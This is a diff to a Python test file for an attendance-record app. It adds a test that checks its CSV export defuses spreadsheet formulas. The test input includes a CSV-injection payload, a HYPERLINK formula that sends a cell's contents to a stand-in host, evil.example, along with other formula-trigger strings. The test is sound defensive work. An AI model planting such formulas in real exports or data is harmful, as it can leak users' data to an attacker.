@@ -1,7 +1,9 @@
 """*Ajouter une attestation*: the rules of a session, the summary, changes, deletion, the list with
 its CSV export, the 24-hour meter, and who sees what."""
 
+import csv
 import datetime
+import io
 from zoneinfo import ZoneInfo
 
 import pytest
@@ -178,6 +180,22 @@ def test_list_filters_by_candidate_and_month_and_exports_csv(client, counsellor,
     assert lines[0].startswith("Référence;Nom;Prénom;DABM;Date;Début;Fin;Durée (minutes)")
     assert len(lines) == 2
     assert ";ZOLA;Émile;" in lines[1] and ";03/11/2026;09:00;10:30;90;1 h 30;" in lines[1]
+
+
+def test_no_cell_of_the_csv_export_is_read_as_a_formula(client, counsellor):
+    """Names typed as spreadsheet formulas come out as text (a leading '), read back with `csv`."""
+    formulas = ['=HYPERLINK("http://evil.example/?"&A1;"Voir")', "+SUM(1,1)", "-2+3", "@SUM(1,1)", "\tTAB"]
+    for day, formula in enumerate(formulas, start=5):
+        person = CandidateFactory(first_name=formula, last_name=formula, dossier__counsellor=counsellor)
+        attest(person, counsellor, at(day, 9), at(day, 12))
+    client.force_login(counsellor)
+    export = client.get(reverse("attestation_list"), {"format": "csv"}).content.decode("utf-8-sig")
+    heading, *rows = csv.reader(io.StringIO(export), delimiter=";")
+    assert len(rows) == len(formulas)
+    for row in rows:
+        assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row), row
+    names = {dict(zip(heading, row, strict=True))["Prénom"] for row in rows}
+    assert names == {f"'{formula}" for formula in formulas}
 
 
 def test_another_counsellor_gets_404_and_candidates_never_reach_these_pages(client, counsellor, candidate):
